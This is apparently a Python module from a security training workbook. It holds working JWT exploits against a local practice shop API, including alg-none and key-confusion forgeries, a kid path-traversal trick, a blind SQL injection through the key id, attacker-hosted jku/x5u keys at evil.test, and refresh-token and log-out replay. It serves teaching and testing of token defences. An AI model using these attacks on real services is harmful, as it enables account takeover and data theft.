"""What people do to a shop that believes tokens: the exploits of chapter 3, by the exercise whose defence they try.

    Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiI0In0.      {"alg": "none"}.{"sub": "4"}.
    GET /api/users                                                  200, everybody's name

An attacker has what is public, the shop's JWKS among it, and what falls out of somebody else's pocket. Where a token is
needed that the shop's issuer has really signed, for another service or long ago, the exploit signs it with the shop's
own key: `issued`.
"""

import hmac
import json
import string
from concurrent.futures import ThreadPoolExecutor
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import quote
from uuid import uuid4

import httpx
import jwt
from cryptography import x509
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

from workbook.book import accounts
from workbook.learn.exploits import Failure, Loot, Outcome, Stopped, excerpt, expect, exploit, said, stopped_by
from workbook.learn.shop import Shop

WORKERS = 2  # of each app: what one remembers in its own memory, the other has not seen
ADMIN = 4  # the number of the administrator, who came last
RSA = jwt.get_algorithm_by_name("RS256")
OWN_KEY = rsa.generate_private_key(public_exponent=65537, key_size=2048)  # the attacker's
AT_ONCE, ATTEMPTS = 8, 48  # requests, so that each of two workers has been asked
LETTERS = string.ascii_lowercase + "@."


# 3.1 What a token says ------------------------------------------------------------------------------------------------


@exploit("3.1", "API3", "a token is read by whoever finds it")
def read_a_token(shop: Shop) -> Outcome:
    """No key is needed: the claims are Base64."""
    claims = claims_of(tokens_of(shop, "bob")["access_token"])
    personal = {name: value for name, value in claims.items() if name in ("name", "email", "age", "password_hash")}
    if personal:
        return Loot(f"from a token in a proxy's log: {json.dumps(personal)}")
    return Stopped(f"it says {', '.join(sorted(claims))}, and nothing of the person")


@exploit("3.1", "API2", "a token that was found is good for a day")
def keep_a_token(shop: Shop) -> Outcome:
    """How long is what is found today worth something?"""
    claims = claims_of(tokens_of(shop, "bob")["access_token"])
    minutes = (claims["exp"] - claims["iat"]) // 60
    if minutes > 60:
        return Loot(f"bob's token opens his account for {minutes / 60:.0f} hours")
    return Stopped(f"it is good for {minutes} minutes")


# 3.2 Which token is believed ------------------------------------------------------------------------------------------


@exploit("3.2", "API2", "a token that is signed by nobody: alg none")
def sign_nothing(shop: Shop) -> Outcome:
    return as_administrator(shop, token({"alg": "none", "typ": "at+jwt", "kid": kid(shop)}, forged(), b""))


@exploit("3.2", "API2", "alg nOnE, where none is looked for")
def sign_nothing_in_other_letters(shop: Shop) -> Outcome:
    return as_administrator(shop, token({"alg": "nOnE", "typ": "at+jwt", "kid": kid(shop)}, forged(), b""))


@exploit("3.2", "API2", "HS256, with the public key as the secret")
def sign_with_the_public_key(shop: Shop) -> Outcome:
    """Everybody has the public key. Who verifies it as a shared secret has published that secret."""
    jwk = public_key(shop)
    pem = RSA.from_jwk({name: jwk[name] for name in ("kty", "n", "e")}).public_bytes(
        Encoding.PEM, PublicFormat.SubjectPublicKeyInfo
    )
    return as_administrator(shop, by_hmac({"alg": "HS256", "typ": "at+jwt", "kid": jwk["kid"]}, pem))


@exploit("3.2", "API2", "kid is a path: the key is /dev/null")
def point_to_an_empty_file(shop: Shop) -> Outcome:
    """A file that is empty on every machine is a secret that everybody knows."""
    public_key(shop)
    return as_administrator(shop, by_hmac({"alg": "HS256", "typ": "at+jwt", "kid": "../" * 12 + "dev/null"}, b""))


@exploit("3.2", "API2", "kid is SQL: the administrator's e-mail")
def ask_through_the_key_id(shop: Shop) -> Outcome:
    """The key id is asked for before any signature is checked, and the answer tells yes from no: letter by letter."""
    found = ""
    while len(found) < len("admin@example.org"):
        letter = next((letter for letter in LETTERS if is_true(shop, f"{found}{letter}")), None)
        if letter is None:
            break
        found += letter
    if found:
        return Loot(f"by yes and no, without any token: the administrator is {found}")
    return Stopped("every key id that is not known gets the same answer")


@exploit("3.2", "API2", "jwk: the token brings its own key along")
def bring_a_key(shop: Shop) -> Outcome:
    public_key(shop)
    return as_administrator(shop, own({"jwk": RSA.to_jwk(OWN_KEY.public_key(), as_dict=True)}))


@exploit("3.2", "API2", "jku: the key is on the attacker's site")
def host_a_key_set(shop: Shop) -> Outcome:
    public_key(shop)
    jwks = {"keys": [{**RSA.to_jwk(OWN_KEY.public_key(), as_dict=True), "kid": "mine", "use": "sig", "alg": "RS256"}]}
    return as_administrator(shop, own({"jku": hosted(json.dumps(jwks))}))


@exploit("3.2", "API2", "x5u: so is the certificate")
def host_a_certificate(shop: Shop) -> Outcome:
    public_key(shop)
    return as_administrator(shop, own({"x5u": hosted(certificate())}))


@exploit("3.2", "API2", "a token that expired an hour ago")
def use_an_expired_token(shop: Shop) -> Outcome:
    past = int(datetime.now(UTC).timestamp()) - 7200
    return as_administrator(shop, issued(shop, iat=past, nbf=past, exp=past + 3600))


@exploit("3.2", "API2", "a token for tomorrow")
def use_a_token_before_its_time(shop: Shop) -> Outcome:
    tomorrow = int(datetime.now(UTC).timestamp()) + 86_400
    return as_administrator(shop, issued(shop, nbf=tomorrow, exp=tomorrow + 3600))


@exploit("3.2", "API2", "a token for another service")
def use_a_token_for_another_audience(shop: Shop) -> Outcome:
    """The issuer signs tokens for the newsletter, too, and there everybody may be an administrator."""
    return as_administrator(shop, issued(shop, aud="newsletter"))


@exploit("3.2", "API2", "a refresh token opens the account")
def use_a_refresh_token(shop: Shop) -> Outcome:
    """A refresh token lives for days, and goes to one address only. If it opens doors, so does who finds it."""
    given = tokens_of(shop, "bob")
    expect(with_token(shop, given["access_token"]).get("/api/users/me"))
    answer = with_token(shop, given["refresh_token"]).get("/api/users/me")
    if answer.status_code == 200:
        return Loot(f"with the refresh token: {excerpt(answer.text)}")
    return stopped_by(answer)


# 3.3 What has been taken back -----------------------------------------------------------------------------------------


@exploit("3.3", "API2", "a token goes on after the log-out")
def go_on_after_the_log_out(shop: Shop) -> Outcome:
    """The thief has bob's token; bob signs out. The shop has more than one worker."""
    token_of_bob = tokens_of(shop, "bob")["access_token"]
    expect(with_token(shop, token_of_bob).delete("/api/auth/logout"), 204)
    return until_it_opens(shop, token_of_bob)


@exploit("3.3", "API2", "a token comes back when Redis has crashed")
def come_back_after_a_crash(shop: Shop) -> Outcome:
    token_of_bob = tokens_of(shop, "bob")["access_token"]
    expect(with_token(shop, token_of_bob).delete("/api/auth/logout"), 204)
    shop.crash_redis()
    return until_it_opens(shop, token_of_bob)


# 3.4 Who renews -------------------------------------------------------------------------------------------------------


@exploit("3.4", "API2", "a stolen refresh token, used beside its owner")
def renew_beside_the_owner(shop: Shop) -> Outcome:
    """The thief copied it before bob used it. Bob has renewed twice since."""
    stolen = tokens_of(shop, "bob")["refresh_token"]
    later = expect(renew(shop, stolen)).json()["refresh_token"]
    expect(renew(shop, later))
    answer = renew(shop, stolen)
    if answer.status_code != 200:
        return stopped_by(answer)
    shelves = expect(with_token(shop, answer.json()["access_token"]).get("/api/shelves")).json()["items"]
    return Loot(f"bob's shelves, for as long as bob is signed in: {[shelf['name'] for shelf in shelves]}")


@exploit("3.4", "API2", "a refresh token that was used lives on")
def hold_on_to_the_first(shop: Shop) -> Outcome:
    """After the theft was noticed: what the thief has got meanwhile."""
    stolen = tokens_of(shop, "bob")["refresh_token"]
    taken = expect(renew(shop, stolen)).json()
    expect(renew(shop, taken["refresh_token"]))
    renew(shop, stolen)  # bob's program, which does not know of the thief: from here on the shop can
    answer = with_token(shop, taken["access_token"]).get("/api/shelves")
    if answer.status_code == 200:
        return Loot(f"the thief is still in: {[shelf['name'] for shelf in answer.json()['items']]}")
    return stopped_by(answer)


# 3.5 Where the keys are -----------------------------------------------------------------------------------------------


@exploit("3.5", "API2", "the key set has the private key in it")
def sign_with_what_is_published(shop: Shop) -> Outcome:
    jwk = public_key(shop)
    if "d" not in jwk:
        return Stopped(f"it has {', '.join(sorted(jwk))}: public parts only")
    private = RSA.from_jwk({name: value for name, value in jwk.items() if name not in ("use", "key_ops")})
    return as_administrator(shop, jwt.encode(forged(), private, "RS256", {"kid": jwk["kid"], "typ": "at+jwt"}))


@exploit("3.5", "API8", "another account of the machine reads the keys")
def read_the_key_file(shop: Shop) -> Outcome:
    public_key(shop)
    for path in key_files(shop):
        mode = path.stat().st_mode & 0o777
        if mode & 0o077:
            return Loot(f"{path.name} has mode {mode:o}: everybody on this machine can sign tokens")
    return Stopped("the file of the keys has mode 600")


# The tools of the trade -----------------------------------------------------------------------------------------------


def tokens_of(shop: Shop, name: str) -> dict[str, Any]:
    """What the sample user `name` is given at the log-in."""
    who = {"email": f"{name}@example.org", "password": accounts.password(name)}
    given: dict[str, Any] = expect(shop.client().post("/api/auth/login", json=who)).json()
    return given


def with_token(shop: Shop, text: str) -> httpx.Client:
    """A program that sends this token."""
    return shop.client(headers={"Authorization": f"Bearer {text}"})


def renew(shop: Shop, refresh_token: str) -> httpx.Response:
    """The answer to a refresh token."""
    return shop.client().post("/api/auth/refresh", json={"refresh_token": refresh_token})


def claims_of(text: str) -> dict[str, Any]:
    """What a token says, for everybody to read."""
    claims: dict[str, Any] = jwt.decode(text, options={"verify_signature": False})
    return claims


def public_key(shop: Shop) -> dict[str, Any]:
    """The key that the shop publishes first; an honest token must work before a forged one means anything."""
    expect(with_token(shop, tokens_of(shop, "admin")["access_token"]).get("/api/users"))
    jwk: dict[str, Any] = expect(shop.client().get("/.well-known/jwks.json")).json()["keys"][0]
    return jwk


def kid(shop: Shop) -> str:
    """The name of that key."""
    return str(public_key(shop)["kid"])


def forged(**claims: Any) -> dict[str, Any]:
    """The claims of an administrator, as the shop's own look; `claims` differ."""
    now = int(datetime.now(UTC).timestamp())
    own = {"iss": "https://shop.test", "aud": "books-api", "sub": str(ADMIN), "role": "admin", "sid": str(uuid4())}
    return {**own, "jti": str(uuid4()), "iat": now, "nbf": now, "exp": now + 900, **claims}


def issued(shop: Shop, **claims: Any) -> str:
    """A token of the administrator's that the issuer has signed, with these `claims`."""
    public_key(shop)
    entry = next(one for path in key_files(shop) for one in json.loads(path.read_text()))
    headers = {"kid": entry["kid"], "typ": "at+jwt"}
    return jwt.encode(forged(**claims), entry["material"], entry["algorithm"], headers)


def key_files(shop: Shop) -> list[Path]:
    """The files of the shop's keys, for somebody who has got onto the machine."""
    found = sorted(shop.keys.glob("*.json"))
    if not found:
        raise Failure("the shop keeps no keys in its KEY_FOLDER")
    return found


def own(header: dict[str, Any]) -> str:
    """A token of an administrator, signed with the attacker's own key; `header` says where that is."""
    return jwt.encode(forged(), OWN_KEY, "RS256", {"kid": "mine", "typ": "at+jwt", **header})


def hosted(text: str) -> str:
    """The address at which the attacker's site says `text`."""
    return f"http://evil.test/say?text={quote(text)}"


def certificate() -> str:
    """A certificate of the attacker's key, in PEM, signed by nobody but the attacker."""
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "shop.test")])
    now = datetime.now(UTC)
    builder = x509.CertificateBuilder().subject_name(name).issuer_name(name).public_key(OWN_KEY.public_key())
    builder = builder.serial_number(x509.random_serial_number()).not_valid_before(now)
    signed = builder.not_valid_after(now + timedelta(days=1)).sign(OWN_KEY, hashes.SHA256())
    return signed.public_bytes(Encoding.PEM).decode()


def token(header: dict[str, Any], claims: dict[str, Any], signature: bytes) -> str:
    """A token put together by hand."""
    parts = [json.dumps(header).encode(), json.dumps(claims).encode(), signature]
    return ".".join(jwt.utils.base64url_encode(part).decode() for part in parts)


def by_hmac(header: dict[str, Any], secret: bytes) -> str:
    """A token of an administrator, with an HMAC under `secret`, whatever that is."""
    claims = forged()
    signed = token(header, claims, b"").rstrip(".")
    return token(header, claims, hmac.digest(secret, signed.encode(), "sha256"))


def is_true(shop: Shop, beginning: str) -> bool:
    """Whether the administrator's e-mail begins so, by what the shop says about a key id."""
    question = f"x' UNION SELECT name FROM users WHERE role = 'admin' AND email LIKE '{beginning}%"
    answer = with_token(shop, token({"alg": "RS256", "kid": question}, forged(), b"x")).get("/api/books/1")
    return "retired" in said(answer)


def as_administrator(shop: Shop, text: str) -> Outcome:
    """What the list of all users says to this token."""
    answer = with_token(shop, text).get("/api/users")
    if answer.status_code == 200:
        names = ", ".join(user["name"] for user in answer.json()["items"])
        return Loot(f"the list of users, as an administrator: {names}")
    return stopped_by(answer)


def until_it_opens(shop: Shop, text: str) -> Outcome:
    """Try a token until some worker lets it in: many requests at once, since one after the other may all be answered
    by the same one, which is the first to be ready again.
    """

    def attempt(_number: int) -> httpx.Response:
        return with_token(shop, text).get("/api/users/me")

    with ThreadPoolExecutor(AT_ONCE) as pool:
        answers = list(pool.map(attempt, range(ATTEMPTS)))
    for number, answer in enumerate(answers, start=1):
        if answer.status_code == 200:
            return Loot(f"request {number} after the log-out: {excerpt(answer.text)}")
    return stopped_by(answers[-1])
